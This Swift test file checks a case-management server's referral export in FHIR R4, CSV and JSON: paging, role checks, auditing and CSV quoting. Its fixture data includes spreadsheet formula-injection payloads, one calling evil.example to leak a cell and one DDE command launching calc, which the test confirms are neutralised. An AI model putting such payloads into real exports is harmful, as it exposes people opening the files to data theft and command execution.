import Foundation
import SyncCore
import TestSupport
import Testing
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

/// The export for case management (issue 16, item 3) against the real
/// server: paging by cursor, a referral changed again coming again, roles,
/// the audit entry; and the three formats checked outside Swift by
/// `Tests/Export/export_check.py` (FHIR parsed with fhir.resources' R4
/// models, the CSV read back with Python's `csv` module against the JSON).
@Suite("Export: FHIR R4, CSV and JSON")
struct ExportTests {
    static let script = ConsoleBrowserTests.repository.appendingPathComponent("Tests/Export/export_check.py")

    /// GET with a bearer token: status, body, headers.
    func get(_ server: ServerProcess, _ path: String, token: String) async throws -> (Int, Data, HTTPURLResponse) {
        var request = URLRequest(url: URL(string: server.url.absoluteString + "/" + path)!)
        request.setValue("Bearer \(token)", forHTTPHeaderField: "Authorization")
        let (data, response) = try await URLSession.shared.data(for: request)
        let http = response as! HTTPURLResponse
        return (http.statusCode, data, http)
    }

    @Test("pages by cursor, a changed referral comes again, only intake and admins, audited; FHIR parses as R4 and the CSV round-trips every field")
    func export() async throws {
        let server = try ServerProcess(clock: "2026-11-23T12:00:00Z")
        let jane = try await Device(server: server, token: try server.addUser("jane"))
        let intakeToken = try server.addUser("ian", role: .intake)
        let intake = try await Device(server: server, token: intakeToken)
        let janeToken = try server.addUser("jane2")
        defer { [jane, intake].forEach { $0.remove() } }

        // One referral with everything the formats map, text that needs quoting included; one plain.
        let full = try jane.store.createReferral(kind: .socialCare)
        for (path, value) in [
            ("referrer.name", "Jane \"JJ\" Smith"), ("referrer.role", "Health visitor"), ("referrer.agency", "Worcester Health Visiting, North"),
            ("concern.summary", "Bruises on both arms,\nseen on Monday; Amy said \"it was an accident\""), ("urgency.immediate_risk", "yes"),
            ("urgency.call_made", "yes"), ("concern.allegations", "Zoë's mother's partner grabbed her"),
            // Formula injection (issue 26, item 4): each would run in a spreadsheet unneutralised.
            ("referrer.phone", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Call back\")"), ("referrer.email", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("concern.where", "-2+3"), ("concern.sources", "'quoted by the child'"),
        ] {
            try jane.store.set(path, of: full, to: value)
        }
        for (name, nhs, born) in [("Amy Smith", "943 476 5919", "2019-03-14"), ("Ben Smith", "401 023 2137", "2021-07-01")] {
            let child = try jane.store.addItem(to: "children", of: full)
            try jane.store.set("children.\(child.lowercased).full_name", of: full, to: name)
            try jane.store.set("children.\(child.lowercased).nhs_number", of: full, to: nhs)
            try jane.store.set("children.\(child.lowercased).date_of_birth", of: full, to: born)
        }
        let removed = try jane.store.addItem(to: "children", of: full)
        try jane.store.set("children.\(removed.lowercased).full_name", of: full, to: "Added by mistake")
        _ = try jane.store.removeItem("children.\(removed.lowercased)", of: full)
        let parent = try jane.store.addItem(to: "parental_responsibility", of: full)
        try jane.store.set("parental_responsibility.\(parent.lowercased).name", of: full, to: "Kim Smith")
        try jane.store.set("parental_responsibility.\(parent.lowercased).relationship", of: full, to: "Mother")
        let member = try jane.store.addItem(to: "household_members", of: full)
        try jane.store.set("household_members.\(member.lowercased).name", of: full, to: "Lee Brown")
        try jane.store.set("household_members.\(member.lowercased).relationship", of: full, to: "Mother's partner")
        _ = try jane.store.submit(full)
        let plain = try jane.store.createReferral(kind: .earlyHelp)
        try jane.store.set("referrer.name", of: plain, to: "Jane Smith")
        try jane.store.set("referrer.agency", of: plain, to: "Health visiting")
        _ = try jane.store.submit(plain)
        let draft = try jane.store.createReferral(kind: .socialCare)
        try jane.store.set("concern.summary", of: draft, to: "A draft is never exported")
        try await jane.sync()
        _ = try await intake.client.decide(plain.lowercased, outcome: .adviceGiven, note: "Advice given; thank you")

        // Practitioners may not export.
        #expect(try await get(server, "v1/export", token: janeToken).0 == 403)
        #expect(try await get(server, "v1/export?format=xml", token: intakeToken).0 == 400)
        #expect(try await get(server, "v1/export?limit=0", token: intakeToken).0 == 400)
        #expect(try await get(server, "v1/export?since=-1", token: intakeToken).0 == 400)

        // Page by page: one, then the other, then nothing.
        func page(_ since: Int64, limit: Int = 1) async throws -> (cursor: Int64, more: Bool, ids: [String]) {
            let (status, data, response) = try await get(server, "v1/export?since=\(since)&limit=\(limit)", token: intakeToken)
            #expect(status == 200)
            let json = try JSONSerialization.jsonObject(with: data) as? [String: Any] ?? [:]
            let cursor = (json["cursor"] as? NSNumber)?.int64Value ?? -1
            #expect(response.value(forHTTPHeaderField: "Export-Cursor") == String(cursor))
            return (cursor, json["more"] as? Bool ?? false, (json["referrals"] as? [[String: Any]] ?? []).compactMap { $0["id"] as? String })
        }
        let first = try await page(0)
        #expect(first.ids == [full.lowercased] && first.more)
        let second = try await page(first.cursor)
        #expect(second.ids == [plain.lowercased] && !second.more)
        let third = try await page(second.cursor)
        #expect(third.ids.isEmpty && !third.more && third.cursor == second.cursor)
        // A later change brings a referral again.
        try jane.store.set("concern.summary", of: full, to: "Bruises on both arms, seen again on Tuesday")
        try await jane.sync()
        let again = try await page(second.cursor)
        #expect(again.ids == [full.lowercased])

        // The three formats of one page, checked in Python.
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("export-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        for format in ["json", "csv", "fhir"] {
            let (status, data, response) = try await get(server, "v1/export?format=\(format)&limit=10", token: intakeToken)
            #expect(status == 200, "\(format): \(String(decoding: data, as: UTF8.self).prefix(300))")
            #expect(response.value(forHTTPHeaderField: "Content-Type")?.contains(format == "fhir" ? "fhir+json" : format) == true)
            try data.write(to: folder.appendingPathComponent("page.\(format)"))
        }
        let json = try String(contentsOf: folder.appendingPathComponent("page.json"), encoding: .utf8)
        #expect(!json.contains("Added by mistake") && !json.contains("A draft is never exported"))
        let fhir = try String(contentsOf: folder.appendingPathComponent("page.fhir"), encoding: .utf8)
        #expect(fhir.contains("https://fhir.nhs.uk/Id/nhs-number") && fhir.contains("\"resourceType\":\"Flag\""))
        #expect(fhir.contains("\"status\":\"completed\"") && fhir.contains("\"status\":\"active\""))
        // Each referral's bundle is identified by the referral's own reference, never by a receipt several share (issue 27).
        let outer = try #require(try JSONSerialization.jsonObject(with: Data(fhir.utf8)) as? [String: Any])
        let bundles = (outer["entry"] as? [[String: Any]] ?? []).compactMap { $0["resource"] as? [String: Any] }
        let identifiers = bundles.compactMap { ($0["identifier"] as? [String: Any]).flatMap { $0["system"] as? String == "urn:field-sync:reference" ? $0["value"] as? String : nil } }
        #expect(identifiers.count == bundles.count && Set(identifiers).count == identifiers.count && identifiers.allSatisfy { $0.hasPrefix("F-") }, "\(identifiers)")
        let exported = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let references = (exported["referrals"] as? [[String: Any]] ?? []).compactMap { $0["reference"] as? String }
        #expect(Set(references) == Set(identifiers), "the JSON export names the same references")

        if ConsoleBrowserTests.pythonAvailable(module: "fhir.resources") {
            let errors = folder.appendingPathComponent("stderr").path
            let (termination, output) = try ChildProcess.run(
                ConsoleBrowserTests.python, [
                    Self.script.path, "--json", folder.appendingPathComponent("page.json").path,
                    "--csv", folder.appendingPathComponent("page.csv").path, "--fhir", folder.appendingPathComponent("page.fhir").path,
                ], error: .file(errors))
            let error = (try? String(contentsOfFile: errors, encoding: .utf8)) ?? ""
            #expect(termination.status == 0, "export_check.py: \(output)\(error.suffix(2000))")
            #expect(output.contains("ok: FHIR R4") && output.contains("ok: CSV"), "\(output)")
        } else {
            #expect(!ConsoleBrowserTests.required, "SYNC_TEST_REQUIRE_BROWSER=1 but \(ConsoleBrowserTests.python) lacks fhir.resources (scripts/test installs it)")
            print("note: the export's Python checks are skipped: \(ConsoleBrowserTests.python) lacks fhir.resources (scripts/test installs it)")
        }

        // The operator's command gives the same, and every export is on the audit trail.
        let (status, csv) = try server.command(["export", "--format", "csv", "--limit", "10"])
        #expect(status == 0 && csv.hasPrefix("\"id\",\"receipt\",\"submitted_at\",\"referrer\",\"revision\""))
        // No value's cell starts with a formula (the header holds our own column names); each such value is
        // there, prefixed with a quote (export_check.py reverses it).
        let rows = csv.components(separatedBy: "\r\n").dropFirst().joined(separator: "\r\n")
        for start in ["\"=", "\"+", "\"-", "\"@", "\"\t", "\"\r"] {
            #expect(!rows.contains("," + start) && !rows.hasPrefix(start) && !rows.contains("\n" + start), "a CSV cell starts with \(start.dropFirst())")
        }
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Call back\"\")\""))
        #expect(csv.contains("\"'@SUM(1+1)") && csv.contains("\"'-2+3\"") && csv.contains("\"''quoted by the child'\""))
        let audit = try server.command(["audit", "show", "--action", "export", "--limit", "50"]).output
        #expect(audit.components(separatedBy: "\n").filter { $0.contains("export") }.count >= 8)
        #expect(!audit.contains("Bruises"))
    }
}
